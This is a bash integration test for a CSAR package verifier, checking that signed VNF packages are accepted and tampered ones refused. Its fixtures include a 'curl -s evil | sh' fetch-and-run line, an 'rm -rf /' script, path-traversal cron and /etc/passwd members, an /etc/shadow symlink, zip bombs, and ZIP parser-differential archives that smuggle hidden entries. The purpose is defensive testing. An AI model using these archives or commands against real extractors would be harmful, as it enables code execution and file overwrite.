#!/usr/bin/env bash
# lisec pkg / lisec li against independent producers. A test PKI is made
# with `openssl req` and `openssl ca` (vendor, operator, LI administration
# and a rogue CA; an expired and a revoked vendor certificate; CRLs), CSARs
# are built with `zip` and signed with `openssl cms` exactly as a SOL 004
# vendor would, and also with `lisec pkg sign` / `countersign`, whose output
# `openssl cms -verify` must accept. Every bad case must be refused with its
# reason: a changed artifact, an unlisted file, an LI VNF without the LI
# administration's countersignature, an expired, revoked or wrong-CA
# certificate, ../ and absolute members, a symlink, duplicate names (made
# with python3's zipfile), a highly compressible bomb and a member whose
# deflate stream really expands to 10 GB (zip64, written here byte by
# byte), two archives in one file and a Unicode Path name (each read
# differently by libzip and by Python's zipfile / unzip), a local entry no
# central header lists or one after a member's deflate stream (which `jar x`
# extracts). Then LI pairing
# and disable commands, checked with `openssl dgst`.
set -euo pipefail
build=${1:?usage: pkg_cli.sh BUILD_DIR SRC_DIR}
src=${2:?usage: pkg_cli.sh BUILD_DIR SRC_DIR}
. "$src/tests/integration/lib/common.sh"
cd "$work"

# ---- a test PKI with openssl ca --------------------------------------------
mkca() { # NAME ORG
  local d=$work/$1
  mkdir -p "$d/certs"
  : >"$d/index.txt"
  echo 1000 >"$d/serial"
  echo 1000 >"$d/crlnumber"
  cat >"$d/ca.cnf" <<CNF
[ca]
default_ca = own
[own]
dir = $d
database = $d/index.txt
new_certs_dir = $d/certs
serial = $d/serial
crlnumber = $d/crlnumber
certificate = $d/ca.crt
private_key = $d/ca.key
default_md = sha256
policy = any
default_days = 30
default_crl_days = 7
unique_subject = no
[any]
O = supplied
CN = supplied
[signing]
basicConstraints = CA:FALSE
keyUsage = critical, digitalSignature
extendedKeyUsage = codeSigning
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
CNF
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$d/ca.key" \
    -out "$d/ca.crt" -subj "/O=$2/CN=$2 CA" -days 365 \
    -addext basicConstraints=critical,CA:TRUE -addext keyUsage=critical,keyCertSign,cRLSign 2>/dev/null
}
issue() { # CA NAME ORG [openssl ca date options...]
  local d=$work/$1 n=$2 o=$3
  shift 3
  openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$work/$n.key" \
    -out "$work/$n.csr" -subj "/O=$o/CN=$n" 2>/dev/null
  openssl ca -batch -config "$d/ca.cnf" -extensions signing -in "$work/$n.csr" -out "$work/$n.crt" \
    "$@" 2>/dev/null
}
mkca vca "Vendor"
mkca oca "Operator"
mkca lca "LI Administration"
mkca rca "Vendor" # another CA with the vendor's name
issue vca vendor "Vendor"
issue vca vendor-expired "Vendor" -startdate 20200101000000Z -enddate 20200201000000Z
issue vca vendor-revoked "Vendor"
issue oca operator "Operator"
issue lca li-admin "LI Administration"
issue rca vendor-rogue "Vendor"
openssl ca -batch -config vca/ca.cnf -revoke vendor-revoked.crt 2>/dev/null
for ca in vca oca lca; do openssl ca -batch -config $ca/ca.cnf -gencrl -out $ca/crl.pem 2>/dev/null; done
cat vca/crl.pem oca/crl.pem lca/crl.pem >crls.pem
trust=(--vendor-ca vca/ca.crt --operator-ca oca/ca.crt --li-admin-ca lca/ca.crt)
pass "test PKI (openssl ca): vendor, operator, LI administration, rogue; expired, revoked, CRLs"

# expect_refused REASON CMD...: exit 1 and REASON in what it printed.
expect_refused() {
  local reason=$1 rc=0
  shift
  "$@" >"$work/out" 2>&1 || rc=$?
  [ "$rc" = 1 ] || { cat "$work/out"; fail "expected exit 1 (refused) from: $*; got $rc"; }
  grep -qF -- "$reason" "$work/out" || { cat "$work/out"; fail "refusal lacks '$reason': $*"; }
  pass "refused ($reason): ${*: -1}"
}
verify() { lisec pkg verify "$@" "${trust[@]}"; }

# ---- an independent SOL 004 producer: sha256sum, openssl cms, zip -----------
mksrc() { # DIR
  mkdir -p "$1/TOSCA-Metadata" "$1/Definitions" "$1/Artifacts/Images" "$1/Scripts"
  cat >"$1/TOSCA-Metadata/TOSCA.meta" <<META
TOSCA-Meta-File-Version: 1.0
CSAR-Version: 1.1
Created-By: pkg_cli.sh
Entry-Definitions: Definitions/probe.yaml
ETSI-Entry-Manifest: probe.mf
ETSI-Entry-Certificate: Files/probe.cert
META
  echo "tosca_definitions_version: tosca_simple_yaml_1_3" >"$1/Definitions/probe.yaml"
  head -c 300000 /dev/urandom >"$1/Artifacts/Images/probe.qcow2"
  printf '#!/bin/sh\necho installed\n' >"$1/Scripts/install.sh"
}
# vendor_sign DIR SIGNER [extra metadata line]: manifest + CMS + cert file.
vendor_sign() {
  local dir=$1 signer=$2 extra=${3:-}
  {
    printf 'metadata:\nvnf_provider_id: Acme\nvnf_product_name: vProbe\n'
    printf 'vnf_release_date_time: 2026-01-01T00:00:00+00:00\nvnf_package_version: 1.0\n'
    [ -n "$extra" ] && printf '%s\n' "$extra"
    (cd "$dir" && find . -type f ! -name probe.mf ! -path ./Files/probe.cert ! -path './Countersignatures/*' |
      sed 's|^\./||' | LC_ALL=C sort | while read -r f; do
      printf '\nSource: %s\nAlgorithm: SHA-256\nHash: %s\n' "$f" "$(sha256sum "$f" | cut -d' ' -f1)"
    done)
    echo
  } >"$work/body.mf"
  openssl cms -sign -binary -in "$work/body.mf" -signer "$signer.crt" -inkey "$signer.key" \
    -outform PEM -out "$work/body.sig"
  cat "$work/body.mf" "$work/body.sig" >"$dir/probe.mf"
  mkdir -p "$dir/Files"
  cp "$signer.crt" "$dir/Files/probe.cert"
}
countersign() { # DIR SIGNER LABEL: detached CMS over the whole manifest file
  mkdir -p "$1/Countersignatures"
  openssl cms -sign -binary -in "$1/probe.mf" -signer "$2.crt" -inkey "$2.key" -outform PEM \
    -out "$1/Countersignatures/$3.cms"
}
csar() { (cd "$1" && rm -f "$2" && zip -qrX "$2" .); }

mksrc a
vendor_sign a vendor
countersign a operator operator
csar a "$work/a.csar"
verify a.csar >out || { cat out; fail "openssl-made CSAR refused"; }
grep -q "accepted: Acme vProbe 1.0" out || fail "verify output: $(cat out)"
pass "CSAR made with zip and openssl cms accepted (vendor + operator)"
verify a.csar --crl crls.pem --json >out.json
python3 - "$work/out.json" <<'PY' || fail "verify --json"
import json, sys
d = json.load(open(sys.argv[1]))
assert d["verdict"] == "accepted" and d["verified"] and d["revocation_checked"], d
roles = sorted(s["role"] for s in d["signers"])
assert roles == ["operator", "vendor"], roles
img = [a for a in d["artifacts"] if a["image"]]
assert len(img) == 1 and img[0]["path"] == "Artifacts/Images/probe.qcow2", img
PY
want=$(sha256sum a/Artifacts/Images/probe.qcow2 | cut -d' ' -f1)
grep -q "\"hash\": \"$want\"" out.json || fail "image digest is not sha256sum's"
pass "verify --json with CRLs: revocation checked, image digest equals sha256sum's"

# ---- the bad cases -----------------------------------------------------------
cp -r a changed && echo tampered >>changed/Scripts/install.sh && csar changed "$work/changed.csar"
expect_refused "'Scripts/install.sh' does not match" verify changed.csar
cp a.csar unlisted.csar && echo "rm -rf /" >evil.sh && zip -q unlisted.csar evil.sh
expect_refused "'evil.sh' is in the package but not in the signed manifest" verify unlisted.csar
# The files the manifest does not list carry no digest: a countersignature
# with a script around its PEM (openssl cms still verifies it, its PEM
# reader skipping the rest) and a binary named by a Certificate: line
# without a Signature: (never read before) are refused.
cp -r a padded && { printf '#!/bin/sh\ncurl -s evil | sh\n'; cat a/Countersignatures/operator.cms; } \
  >padded/Countersignatures/operator.cms && csar padded "$work/padded.csar"
openssl cms -verify -binary -content padded/probe.mf -in padded/Countersignatures/operator.cms \
  -inform PEM -CAfile oca/ca.crt -purpose any >/dev/null 2>&1 ||
  fail "openssl cms should verify the padded countersignature"
expect_refused "may hold its PEM only: text outside its PEM blocks" verify padded.csar
mkdir -p certonly/Files && cp -r a/TOSCA-Metadata a/Definitions a/Artifacts a/Scripts certonly/ &&
  cp vendor.crt certonly/Files/probe.cert && cp /bin/true certonly/Files/image.cert
{
  printf 'metadata:\nvnf_provider_id: Acme\nvnf_product_name: vProbe\n'
  printf 'vnf_release_date_time: 2026-01-01T00:00:00+00:00\nvnf_package_version: 1.0\n'
  for f in TOSCA-Metadata/TOSCA.meta Definitions/probe.yaml Artifacts/Images/probe.qcow2 Scripts/install.sh; do
    printf '\nSource: %s\nAlgorithm: SHA-256\nHash: %s\n' "$f" "$(sha256sum "certonly/$f" | cut -d' ' -f1)"
    if [ "$f" = Artifacts/Images/probe.qcow2 ]; then echo "Certificate: Files/image.cert"; fi
  done
  echo
} >"$work/body2.mf"
openssl cms -sign -binary -in "$work/body2.mf" -signer vendor.crt -inkey vendor.key -outform PEM \
  -out "$work/body2.sig"
cat "$work/body2.mf" "$work/body2.sig" >certonly/probe.mf
countersign certonly operator operator
csar certonly "$work/certonly.csar"
expect_refused "'Files/image.cert' is not in the signed manifest" verify certonly.csar
# the same with a PEM certificate there is accepted
cp vendor.crt certonly/Files/image.cert && csar certonly "$work/certonly-pem.csar"
verify certonly-pem.csar >out || { cat out; fail "a certificate named without a signature refused"; }
pass "unsigned bytes in a countersignature or in a certificate named without a signature refused"
cp -r a vonly && rm -r vonly/Countersignatures && csar vonly "$work/vonly.csar"
expect_refused "no operator countersignature" verify vonly.csar
expect_refused "no operator trust anchor is configured" lisec pkg verify a.csar --vendor-ca vca/ca.crt
expect_refused "LI VNF without the LI administration's countersignature" verify a.csar --li
mksrc li && vendor_sign li vendor "lisec_li_vnf: true" && countersign li operator operator && csar li "$work/li.csar"
expect_refused "LI VNF without the LI administration's countersignature" verify li.csar
countersign li li-admin li-admin && csar li "$work/li.csar"
verify li.csar >out || { cat out; fail "LI VNF with both countersignatures refused"; }
grep -q "LI VNF" out && grep -q "li-admin" out || fail "LI verify output: $(cat out)"
pass "LI VNF accepted with vendor + operator + LI administration"
mksrc old && vendor_sign old vendor-expired && countersign old operator operator && csar old "$work/old.csar"
expect_refused "certificate has expired" verify old.csar
verify old.csar --at 2020-01-15T00:00:00Z >/dev/null 2>&1 && fail "operator's certificate did not exist in 2020"
mksrc rev && vendor_sign rev vendor-revoked && countersign rev operator operator && csar rev "$work/rev.csar"
verify rev.csar >/dev/null || fail "revoked certificate refused without a CRL"
expect_refused "certificate revoked" verify rev.csar --crl crls.pem
mksrc rogue && vendor_sign rogue vendor-rogue && countersign rogue operator operator && csar rogue "$work/rogue.csar"
expect_refused "unable to get local issuer certificate" verify rogue.csar
mksrc self && vendor_sign self vendor && countersign self vendor operator && csar self "$work/self.csar"
expect_refused "operator signer 'CN=vendor,O=Vendor' not trusted" verify self.csar
mksrc unsigned && vendor_sign unsigned vendor && sed -i '/-----BEGIN CMS-----/,$d' unsigned/probe.mf &&
  csar unsigned "$work/unsigned.csar"
expect_refused "carries no CMS signature" verify unsigned.csar

# Hostile archives written with python3's zipfile (and by hand for zip64).
python3 - "$work" <<'PY'
import struct, sys, zipfile, zlib
w = sys.argv[1]
def base(zf):
    with zipfile.ZipFile(w + "/a.csar") as good:
        for i in good.infolist():
            zf.writestr(i, good.read(i))
with zipfile.ZipFile(w + "/dotdot.csar", "w") as zf:
    base(zf)
    zf.writestr(zipfile.ZipInfo("Scripts/../../../etc/cron.d/evil"), b"* * * * * root sh\n")
with zipfile.ZipFile(w + "/absolute.csar", "w") as zf:
    base(zf)
    zf.writestr(zipfile.ZipInfo("/etc/passwd"), b"root::0:0::/:/bin/sh\n")
with zipfile.ZipFile(w + "/symlink.csar", "w") as zf:
    base(zf)
    i = zipfile.ZipInfo("Files/link")
    i.create_system = 3
    i.external_attr = 0o120777 << 16
    zf.writestr(i, b"/etc/shadow")
import warnings
warnings.simplefilter("ignore")
with zipfile.ZipFile(w + "/duplicate.csar", "w") as zf:
    base(zf)
    zf.writestr("Scripts/install.sh", b"#!/bin/sh\necho other\n")
# A highly compressible member: 64 MiB of zeros deflate to about 64 KiB.
with zipfile.ZipFile(w + "/bomb.csar", "w", zipfile.ZIP_DEFLATED) as zf:
    base(zf)
    zf.writestr("Artifacts/Images/zero.img", bytes(64 << 20))
# A member whose deflate stream really expands to 10 GiB of zeros: one
# byte-aligned block of 1 MiB zeros repeated 10240 times, a final empty
# block, zip64 sizes. Nothing here ever expands it.
c = zlib.compressobj(9, zlib.DEFLATED, -15)
block = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
tail = c.flush(zlib.Z_FINISH)
n = 10240
usize, csize = n << 20, len(block) * n + len(tail)
# The CRC-32 field stays 0: the archive must be refused from its headers,
# before a single byte is expanded.
name = b"Artifacts/Images/huge.img"
extra_local = struct.pack("<HHQQ", 1, 16, usize, csize)
with open(w + "/huge.csar", "wb") as f:
    lh = struct.pack("<IHHHHHIIIHH", 0x04034b50, 45, 0, 8, 0, 0x5821, 0, 0xFFFFFFFF, 0xFFFFFFFF,
                     len(name), len(extra_local)) + name + extra_local
    f.write(lh)
    for _ in range(n):
        f.write(block)
    f.write(tail)
    cd_off = f.tell()
    extra_cd = struct.pack("<HHQQ", 1, 16, usize, csize)
    cd = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, (3 << 8) | 45, 45, 0, 8, 0, 0x5821, 0,
                     0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra_cd), 0, 0, 0,
                     0o100644 << 16, 0) + name + extra_cd
    f.write(cd)
    f.write(struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(cd), cd_off, 0))
PY
expect_refused "path traversal" verify dotdot.csar
expect_refused "absolute member name" verify absolute.csar
expect_refused "is a symbolic link" verify symlink.csar
expect_refused "duplicate member name" verify duplicate.csar
expect_refused "zip bomb" verify bomb.csar
[ "$(stat -c %s huge.csar)" -lt 20000000 ] || fail "huge.csar should be small on disk"
expect_refused "expands to 10737418240 bytes" verify huge.csar
expect_refused "path traversal" lisec pkg inspect dotdot.csar

# ---- what other ZIP readers extract ------------------------------------------
# The signed a.csar rebuilt so that libzip still shows its members while
# Python's zipfile and Info-ZIP unzip extract something else: (1) an
# unsigned archive whose central directory and end record are the comment
# of a.csar's end record (libzip takes the end record whose members span
# most, the others the last one); (2) two signed members whose header names
# are swapped, Info-ZIP Unicode Path fields (0x7075) keeping the names
# libzip shows. Each must be refused.
python3 - "$work" <<'PY'
import io, struct, sys, zipfile, zlib
w = sys.argv[1]
good = open(w + "/a.csar", "rb").read()
def parts(d):
    e = d.rfind(b"PK\x05\x06")
    n, size, off = struct.unpack("<HII", d[e + 10:e + 20])
    return d[:off], d[off:off + size], n
ev = io.BytesIO()
with zipfile.ZipFile(ev, "w") as z:
    z.writestr("Scripts/install.sh", "#!/bin/sh\necho unsigned\n")
la, cda, na = parts(good)
lb, cdb, nb = parts(ev.getvalue())
cda = bytearray(cda)
p = 0
while p < len(cda):
    nl, xl, cl = struct.unpack("<HHH", cda[p + 28:p + 34])
    cda[p + 42:p + 46] = struct.pack("<I", struct.unpack("<I", cda[p + 42:p + 46])[0] + len(lb))
    p += 46 + nl + xl + cl
head = lb + la
tail = cdb + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, nb, nb, len(cdb),
                                         len(head) + len(cda) + 22, 0)
with open(w + "/twoarchives.csar", "wb") as f:
    f.write(head + cda + b"PK\x05\x06" +
            struct.pack("<HHHHIIH", 0, 0, na, na, len(cda), len(head), len(tail)) + tail)
assert zipfile.ZipFile(w + "/twoarchives.csar").read("Scripts/install.sh") == b"#!/bin/sh\necho unsigned\n"
x, y = "Scripts/install.sh", "Definitions/probe.yaml"
src = zipfile.ZipFile(w + "/a.csar")
with zipfile.ZipFile(w + "/unicodepath.csar", "w") as out:
    for i in src.infolist():
        raw = {x: y, y: x}.get(i.filename, i.filename)
        zi = zipfile.ZipInfo(raw, i.date_time)
        if raw != i.filename:
            body = b"\x01" + struct.pack("<I", zlib.crc32(raw.encode())) + i.filename.encode()
            zi.extra = struct.pack("<HH", 0x7075, len(body)) + body
        out.writestr(zi, src.read(i.filename))
assert zipfile.ZipFile(w + "/unicodepath.csar").read(x) == src.read(y)
PY
[ "$(unzip -p twoarchives.csar Scripts/install.sh)" = "$(printf '#!/bin/sh\necho unsigned')" ] ||
  fail "unzip should extract the unsigned archive of twoarchives.csar"
expect_refused "the last end record lists another number of members" verify twoarchives.csar
expect_refused "Unicode Path field (0x7075)" verify unicodepath.csar
# (3) a local entry that no central header points to, put before the
# first member and before the central directory: libzip, zipfile and unzip
# list the central directory only, a streaming reader (Java's
# ZipInputStream: `jar x < FILE`) extracts every local entry it meets.
python3 - "$work" <<'PY'
import struct, sys, zlib
w = sys.argv[1]
good = open(w + "/a.csar", "rb").read()
data = b"#!/bin/sh\necho hidden\n"
name = b"Scripts/hidden.sh"
loc = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x5821, zlib.crc32(data), len(data),
                  len(data), len(name), 0) + name + data
e = good.rfind(b"PK\x05\x06")
n, size, off = struct.unpack("<HII", good[e + 10:e + 20])
for where, at in (("front", 0), ("end", off)):
    d = bytearray(good[:at] + loc + good[at:])
    p = off + len(loc)
    for _ in range(n):
        nl, xl, cl = struct.unpack("<HHH", d[p + 28:p + 34])
        o = struct.unpack("<I", d[p + 42:p + 46])[0]
        d[p + 42:p + 46] = struct.pack("<I", o + (len(loc) if o >= at else 0))
        p += 46 + nl + xl + cl
    d[-6:-2] = struct.pack("<I", off + len(loc))
    open("%s/hidden-%s.csar" % (w, where), "wb").write(d)
PY
for where in front end; do
  unzip -l "hidden-$where.csar" | grep -q hidden.sh && fail "unzip should not list hidden.sh"
  if command -v jar >/dev/null; then
    rm -rf "jar-$where" && mkdir "jar-$where"
    (cd "jar-$where" && jar x <"../hidden-$where.csar")
    [ -f "jar-$where/Scripts/hidden.sh" ] || fail "jar x should extract the hidden entry ($where)"
  fi
  expect_refused "bytes no member accounts for" verify "hidden-$where.csar"
done
# Data descriptors are no hidden bytes: a.csar rewritten by Python's
# zipfile to a stream (a descriptor after each member) verifies.
python3 - "$work" <<'PY'
import io, sys, zipfile
w = sys.argv[1]
class Stream(io.RawIOBase):
    def __init__(self, f): self.f = f
    def writable(self): return True
    def write(self, b): return self.f.write(b)
src = zipfile.ZipFile(w + "/a.csar")
with open(w + "/streamed.csar", "wb") as f, zipfile.ZipFile(Stream(f), "w", zipfile.ZIP_DEFLATED) as z:
    for i in src.infolist():
        if not i.is_dir(): z.writestr(i.filename, src.read(i.filename))
assert all(i.flag_bits & 8 for i in zipfile.ZipFile(w + "/streamed.csar").infolist())
PY
verify streamed.csar >out || { cat out; fail "a CSAR with data descriptors refused"; }
pass "a local entry no central header lists refused (jar x extracts it); data descriptors accepted"
# (4) the same entry inside the last member's compressed size, after the
# end of its deflate stream and a data descriptor there: libzip stops at
# the stream's end, `jar x` reads that descriptor and then the entry.
python3 - "$work" <<'PY'
import struct, sys, zipfile, zlib
w = sys.argv[1]
src = zipfile.ZipFile(w + "/a.csar")
names = [i.filename for i in src.infolist() if not i.is_dir()]
names = [n for n in names if n != "probe.mf"] + ["probe.mf"]
out, cd = bytearray(), bytearray()
for n in names:
    data, nb = src.read(n), n.encode()
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp, crc, flags = c.compress(data) + c.flush(), zlib.crc32(data), 0
    if n == "probe.mf":
        hd, hn = b"#!/bin/sh\necho hidden\n", b"Scripts/hidden.sh"
        comp += struct.pack("<IIII", 0x08074B50, crc, len(comp), len(data))
        comp += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x5821, zlib.crc32(hd), len(hd),
                            len(hd), len(hn), 0) + hn + hd
        flags = 8
    off = len(out)
    out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 8, 0, 0x5821, crc, len(comp), len(data),
                       len(nb), 0) + nb + comp
    if flags:
        out += struct.pack("<IIII", 0x08074B50, crc, len(comp), len(data))
    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flags, 8, 0, 0x5821, crc, len(comp),
                      len(data), len(nb), 0, 0, 0, 0, 0o100644 << 16, off) + nb
end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(names), len(names), len(cd), len(out), 0)
open(w + "/trailing.csar", "wb").write(out + cd + end)
assert zipfile.ZipFile(w + "/trailing.csar").testzip() is None
PY
unzip -tq trailing.csar >/dev/null || fail "unzip should find trailing.csar sound"
if command -v jar >/dev/null; then
  rm -rf jar-trailing && mkdir jar-trailing && (cd jar-trailing && jar x <../trailing.csar)
  [ -f jar-trailing/Scripts/hidden.sh ] || fail "jar x should extract the entry after the deflate stream"
fi
expect_refused "bytes after the end of its deflate stream" verify trailing.csar
pass "an entry after a member's deflate stream, inside its size, refused (jar x extracts it)"

# ---- lisec pkg sign and countersign, read by openssl ---------------------------
mksrc b
lisec pkg sign b -o b.csar --cert vendor.crt --key vendor.key \
  --meta vnf_provider_id=Acme --meta vnf_product_name=vProbe --meta vnf_package_version=2.0 \
  --meta vnf_release_date_time=2026-02-01T00:00:00Z >/dev/null
expect_refused "no operator countersignature" verify b.csar
lisec pkg countersign b.csar -o b-op.csar --label operator --cert operator.crt --key operator.key \
  "${trust[@]}" >/dev/null
lisec pkg countersign b-op.csar -o b-li.csar --label li-admin --cert li-admin.crt --key li-admin.key \
  "${trust[@]}" >/dev/null
verify b-op.csar >/dev/null || fail "lisec-signed, lisec-countersigned CSAR refused"
verify b-li.csar --li --crl crls.pem >/dev/null || fail "lisec-made LI CSAR refused"
pass "lisec pkg sign + countersign (operator, then LI administration) accepted"
# A package that declares itself an LI VNF: each countersigning step
# verifies what exists so far, and only the finished package is accepted.
lisec pkg sign b -o c.csar --cert vendor.crt --key vendor.key \
  --meta vnf_provider_id=Acme --meta vnf_product_name=vLI --meta vnf_package_version=1.0 \
  --meta vnf_release_date_time=2026-02-01T00:00:00Z --meta lisec_li_vnf=true >/dev/null
lisec pkg countersign c.csar -o c-op.csar --label operator --cert operator.crt --key operator.key \
  "${trust[@]}" >/dev/null || fail "the operator could not countersign an LI VNF"
expect_refused "LI VNF without the LI administration's countersignature" verify c-op.csar
lisec pkg countersign c-op.csar -o c-li.csar --label li-admin --cert li-admin.crt --key li-admin.key \
  "${trust[@]}" >/dev/null || fail "the LI administration could not countersign an LI VNF"
verify c-li.csar --crl crls.pem >out || { cat out; fail "a declared LI VNF with both countersignatures refused"; }
grep -q "LI VNF" out || fail "declared LI VNF not reported as one: $(cat out)"
pass "a package declaring itself an LI VNF is countersigned with lisec by both, and only then accepted"
mkdir x && (cd x && unzip -q ../b-li.csar)
awk '/^-----BEGIN CMS-----/{s=1} !s' x/probe.mf >x/body
awk '/^-----BEGIN CMS-----/{s=1} s' x/probe.mf >x/sig.pem
openssl cms -verify -binary -inform PEM -in x/sig.pem -content x/body -CAfile vca/ca.crt \
  -purpose any -out /dev/null 2>/dev/null || fail "openssl cms cannot verify lisec's vendor signature"
openssl cms -verify -binary -inform PEM -in x/Countersignatures/operator.cms -content x/probe.mf \
  -CAfile oca/ca.crt -purpose any -out /dev/null 2>/dev/null || fail "openssl: operator countersignature"
openssl cms -verify -binary -inform PEM -in x/Countersignatures/li-admin.cms -content x/probe.mf \
  -CAfile lca/ca.crt -purpose any -out /dev/null 2>/dev/null || fail "openssl: LI countersignature"
(cd x && grep '^Source:' probe.mf | cut -d' ' -f2 | while read -r f; do
  h=$(awk -v f="$f" '$0=="Source: "f{getline; getline; print $2}' probe.mf)
  [ "$(sha256sum "$f" | cut -d' ' -f1)" = "$h" ] || exit 1
done) || fail "a lisec manifest digest is not sha256sum's"
pass "openssl cms verifies lisec's vendor signature and both countersignatures; digests equal sha256sum's"
expect_refused "does not verify, so it is not countersigned" \
  lisec pkg countersign changed.csar -o changed-op.csar --label operator --cert operator.crt \
  --key operator.key "${trust[@]}"
[ ! -e changed-op.csar ] || fail "countersign left an output after refusing"
lisec pkg inspect b-li.csar --json >inspect.json
python3 -c "import json,sys; d=json.load(open('inspect.json')); assert d['verdict']=='unverified' and len(d['signers'])==3, d" ||
  fail "inspect --json"
verify changed.csar --json >refused.json || true
python3 -c "import json; d=json.load(open('refused.json')); assert d['verdict']=='refused' and 'does not match' in d['reason'], d" ||
  fail "verify --json refusal"
pass "inspect --json and verify --json refusal"

# ---- LI pairing and the activation lock ---------------------------------------
openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out vm.key 2>/dev/null
openssl pkey -in vm.key -pubout -out vm.pub
openssl pkey -in li-admin.key -pubout -out li-admin.pub
openssl pkey -in operator.key -pubout -out operator.pub
lisec li pair-sign --key li-admin.key --vm vnf-li-1 --pubkey vm.pub -o pair.json 2>/dev/null
want=$(openssl pkey -pubin -in vm.pub -outform DER | sha256sum | cut -d' ' -f1)
grep -q "\"key_sha256\":\"$want\"" pair.json || fail "pairing statement does not name the VM key's SHA-256"
lisec li verify-pair pair.json --pubkey li-admin.pub --vm vnf-li-1 --vm-key vm.pub >/dev/null
expect_refused "not signed by the LI administration" lisec li verify-pair pair.json --pubkey operator.pub --vm vnf-li-1 --vm-key vm.pub
expect_refused "for VM vnf-li-1, not vnf-li-2" lisec li verify-pair pair.json --pubkey li-admin.pub --vm vnf-li-2 --vm-key vm.pub
lisec li sign-disable --key li-admin.key --vm vnf-li-1 --counter 5 --expires +600 -o disable.json 2>/dev/null
python3 - <<'PY' || fail "extracting the signed bytes"
import base64, json
d = json.load(open("disable.json"))
c = d["command"]
open("disable.canon", "w").write('{"counter":%d,"expires":%d,"type":"li-disable","v":1,"vm":"%s"}'
                                  % (c["counter"], c["expires"], c["vm"]))
open("disable.sig", "wb").write(base64.b64decode(d["signature"]))
PY
openssl dgst -sha256 -verify li-admin.pub -signature disable.sig disable.canon >/dev/null ||
  fail "openssl does not verify the disable command over its documented canonical bytes"
lisec li verify-disable disable.json --pubkey li-admin.pub --vm vnf-li-1 --last 4 >/dev/null
expect_refused "replayed disable command" lisec li verify-disable disable.json --pubkey li-admin.pub --vm vnf-li-1 --last 5
expect_refused "not signed by the LI administration" lisec li verify-disable disable.json --pubkey operator.pub --vm vnf-li-1
expect_refused "expired" lisec li verify-disable disable.json --pubkey li-admin.pub --vm vnf-li-1 --at +3600
lisec li sign-disable --key li-admin.key --vm vnf-li-1 --counter 6 --expires +9999999 >/dev/null 2>&1 &&
  fail "a command valid for months was signed"
pass "LI pairing and disable commands: openssl-verifiable, replay, wrong key and expiry refused"
echo "pkg_cli: all passed"
